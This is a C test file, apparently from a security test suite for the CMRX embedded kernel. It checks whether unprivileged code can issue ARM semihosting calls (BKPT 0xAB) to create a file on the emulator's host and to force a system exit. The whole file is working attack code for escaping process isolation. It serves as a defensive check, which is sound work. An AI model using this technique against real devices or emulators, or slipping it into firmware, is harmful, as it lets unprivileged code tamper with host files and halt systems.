/* Attack: reach the host through semihosting.
 *
 * Semihosting (BKPT 0xAB) is how the kernel's console and shutdown talk to
 * an emulator or debugger. If the emulator answers it for unprivileged
 * code too, any process can create files on the host and end the whole
 * system with an exit code of its choosing. */
#include "attack.h"

#define SYS_OPEN          0x01u
#define SYS_CLOSE         0x02u
#define SYS_WRITE         0x05u
#define SYS_EXIT_EXTENDED 0x20u

static uint32_t semihost(uint32_t op, const void *arg)
{
    register uint32_t r0 __asm("r0") = op;
    register const void *r1 __asm("r1") = arg;
    __asm volatile("bkpt 0xab" : "+r"(r0) : "r"(r1) : "memory");
    return r0;
}

static const char path[] = ATTACK_HOST_FILE;
static const char text[] = "written by an unprivileged process\n";

static int write_file(void *arg)
{
    (void)arg;
    uint32_t open[3] = {(uint32_t)path, 4u /* "w" */, sizeof(path) - 1u};
    int32_t fd = (int32_t)semihost(SYS_OPEN, open);
    cmrx_printf("attack_semihost: open returned %ld\n", (long)fd);
    if (fd >= 0) {
        uint32_t wr[3] = {(uint32_t)fd, (uint32_t)text, sizeof(text) - 1u};
        semihost(SYS_WRITE, wr);
        uint32_t cl[1] = {(uint32_t)fd};
        semihost(SYS_CLOSE, cl);
        ATTACK_SUCCEEDED("created %s on the host", path);
    }
    return 0;
}

static int end_everything(void *arg)
{
    (void)arg;
    uint32_t block[2] = {0x20026u /* ADP_Stopped_ApplicationExit */, 0u};
    semihost(SYS_EXIT_EXTENDED, block);
    ATTACK_SUCCEEDED("semihosting exit returned");
    return 0;
}

static int attack(void *arg)
{
    (void)arg;
    int code = 0;
    cmrx_tid_t t = cmrx_thread_create(write_file, NULL, 20);
    cmrx_thread_join(t, &code);
    cmrx_printf("attack_semihost: the file writer ended with %d\n", code);
    t = cmrx_thread_create(end_everything, NULL, 20);
    cmrx_thread_join(t, &code);
    cmrx_printf("attack_semihost: the exit attempt ended with %d\n", code);
    attack_done(2);
    return 0;
}
CMRX_THREAD(attack, NULL);
